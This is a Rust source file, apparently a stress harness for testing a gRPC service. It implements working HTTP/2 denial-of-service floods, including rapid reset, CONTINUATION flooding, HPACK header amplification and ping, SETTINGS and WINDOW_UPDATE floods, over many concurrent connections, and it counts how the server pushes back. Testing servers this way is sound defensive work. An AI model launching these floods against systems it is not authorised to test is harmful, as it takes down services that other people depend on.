//! Attacks by HTTP/2 frames, each of which costs the server more than its sender.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::time::{interval, timeout};

use crate::frames::{
    END_HEADERS, END_STREAM, FRAME_HEAD_LEN, Kind, PREFACE, frame, head, header, text,
};
use crate::{Target, pause};

const COMMIT: &str = "/deltasync.v1.WriteService/Commit";
const CHECK: &str = "/grpc.health.v1.Health/Check";

/// Connections that send at once.
const LINES: u64 = 16;

/// How often each sends.
const TICK: Duration = Duration::from_millis(20);
const TICKS_PER_S: u64 = 50;

/// A server that takes nothing for this long holds the sender back, which is its right.
const TAKEN_WITHIN: Duration = Duration::from_millis(500);

/// Pause of a peer whose connection was closed.
const BACK_AFTER: Duration = Duration::from_millis(50);

/// The largest frame that a server must take.
const FRAME_MAX: usize = 16 * 1024;

/// A connection that is a flood.
struct Line {
    to: OwnedWriteHalf,
    /// The stream that is opened next.
    next: u32,
}

/// Whether a line takes what it is told.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reads {
    Everything,
    Nothing,
}

// === impl Line ===

impl Line {
    fn stream(&mut self) -> u32 {
        self.next += 2;
        self.next - 2
    }

    /// Adds the head of a call on a stream of its own; which.
    fn open(&mut self, to: &mut Vec<u8>, path: &str, flags: u8) -> u32 {
        let stream = self.stream();
        frame(to, Kind::Headers, END_HEADERS | flags, stream, &head(path));
        stream
    }
}

/// Sends on some lines, half of which read nothing, together so many times a second what `make`
/// adds: the frames of which it returns the number.
async fn flood(
    target: &Target,
    per_s: u64,
    make: impl Fn(&mut Line, &mut Vec<u8>) -> u64 + Clone + Send + Sync + 'static,
) {
    let times = per_s / TICKS_PER_S / LINES;
    assert!(times > 0, "{per_s} is too few a second");
    for number in 0..LINES {
        let reads = if number % 2 == 0 { Reads::Everything } else { Reads::Nothing };
        let (target, make) = (target.clone(), make.clone());
        target.tasks.clone().spawn(async move {
            while !target.is_over() {
                flood_one(&target, reads, times, &make).await;
                pause(&target, BACK_AFTER).await;
            }
        });
    }
    tokio::time::sleep_until(target.end).await;
}

/// Sends until the connection is closed.
async fn flood_one(
    target: &Target,
    reads: Reads,
    times: u64,
    make: &impl Fn(&mut Line, &mut Vec<u8>) -> u64,
) {
    let Some(stream) = target.connect().await else { return };
    let (from, to) = stream.into_split();
    let mut line = Line { to, next: 1 };
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, Kind::Settings, 0, 0, &[]);
    let unread = match reads {
        Reads::Nothing => Some(from),
        Reads::Everything => {
            let counted = target.clone();
            target.tasks.spawn(async move { count_frames(&counted, from).await });
            None
        }
    };
    let mut ticks = interval(TICK);
    while !target.is_over() {
        ticks.tick().await;
        let frames: u64 = (0..times).map(|_| make(&mut line, &mut bytes)).sum();
        match timeout(TAKEN_WITHIN, line.to.write_all(&bytes)).await {
            Ok(Ok(())) => target.count("frames", frames),
            Ok(Err(_)) => {
                target.count("closed", 1);
                return;
            }
            Err(_) => {
                target.count("held back", 1);
                tokio::time::sleep_until(target.end).await;
            }
        }
        bytes.clear();
    }
    drop(unread);
}

/// Reads what the server says, and counts how it ends things.
async fn count_frames(target: &Target, mut from: OwnedReadHalf) {
    let mut head = [0; FRAME_HEAD_LEN];
    let mut holds = Vec::new();
    while from.read_exact(&mut head).await.is_ok() {
        let [a, b, c, kind, ..] = head;
        holds.resize(usize::try_from(u32::from_be_bytes([0, a, b, c])).unwrap(), 0);
        if from.read_exact(&mut holds).await.is_err() {
            break;
        }
        // A reset says its reason first, a farewell after the last stream that it knows of.
        match kind {
            3 => target.count(&format!("reset for {}", holds[3]), 1),
            7 => target.count(&format!("farewell for {}", holds[7]), 1),
            _ => target.count("frames back", 1),
        }
    }
}

pub(crate) async fn pings(target: &Target) {
    flood(target, 40_000, |_, bytes| {
        frame(bytes, Kind::Ping, 0, 0, b"attacked");
        1
    })
    .await;
}

pub(crate) async fn settings(target: &Target) {
    flood(target, 20_000, |_, bytes| {
        // The size of streams' windows, which has to be told to each of them.
        frame(bytes, Kind::Settings, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]);
        1
    })
    .await;
}

pub(crate) async fn priorities(target: &Target) {
    flood(target, 40_000, |line, bytes| {
        frame(bytes, Kind::Priority, 0, line.stream(), &[0, 0, 0, 0, 16]);
        1
    })
    .await;
}

pub(crate) async fn window_updates(target: &Target) {
    flood(target, 40_000, |line, bytes| {
        if line.next == 1 {
            line.open(bytes, COMMIT, 0);
        }
        frame(bytes, Kind::WindowUpdate, 0, 0, &[0, 0, 0, 1]);
        frame(bytes, Kind::WindowUpdate, 0, 1, &[0, 0, 0, 1]);
        2
    })
    .await;
}

/// Calls that are taken back at once.
pub(crate) async fn rapid_reset(target: &Target) {
    flood(target, 8_000, |line, bytes| {
        let stream = line.open(bytes, CHECK, END_STREAM);
        frame(bytes, Kind::Reset, 0, stream, &[0, 0, 0, 8]);
        2
    })
    .await;
}

/// Calls that make the server reset them: a window that would be larger than there can be.
pub(crate) async fn made_resets(target: &Target) {
    flood(target, 8_000, |line, bytes| {
        let stream = line.open(bytes, COMMIT, 0);
        frame(bytes, Kind::WindowUpdate, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
        2
    })
    .await;
}

/// Headers that never end.
pub(crate) async fn continuations(target: &Target) {
    flood(target, 4_000, |line, bytes| {
        if line.next == 1 {
            let stream = line.stream();
            frame(bytes, Kind::Headers, 0, stream, &head(CHECK));
        }
        let mut more = Vec::new();
        header(&mut more, b"more", &[b'm'; 1_000]);
        frame(bytes, Kind::Continuation, 0, 1, &more);
        1
    })
    .await;
}

/// Headers that are small on the wire and large when read: one large header, told once, and then
/// its number in the table again and again. Every eighth call is of the kind that is too large in itself.
pub(crate) async fn headers(target: &Target) {
    flood(target, 1_600, |line, bytes| {
        let stream = line.stream();
        let mut block = head(CHECK);
        if stream == 1 {
            block.push(0x40);
            text(&mut block, b"large");
            text(&mut block, &[b'l'; 3_000]);
        } else if stream % 16 == 1 {
            header(&mut block, b"large", &[b'l'; FRAME_MAX - 1_000]);
        } else {
            // The newest entry of the table.
            block.extend([0xbe; 8_000]);
        }
        frame(bytes, Kind::Headers, END_HEADERS | END_STREAM, stream, &block);
        1
    })
    .await;
}

/// Requests of frames in which there is nothing.
pub(crate) async fn empty_data(target: &Target) {
    flood(target, 40_000, |line, bytes| {
        if line.next == 1 {
            line.open(bytes, COMMIT, 0);
        }
        frame(bytes, Kind::Data, 0, 1, &[]);
        1
    })
    .await;
}
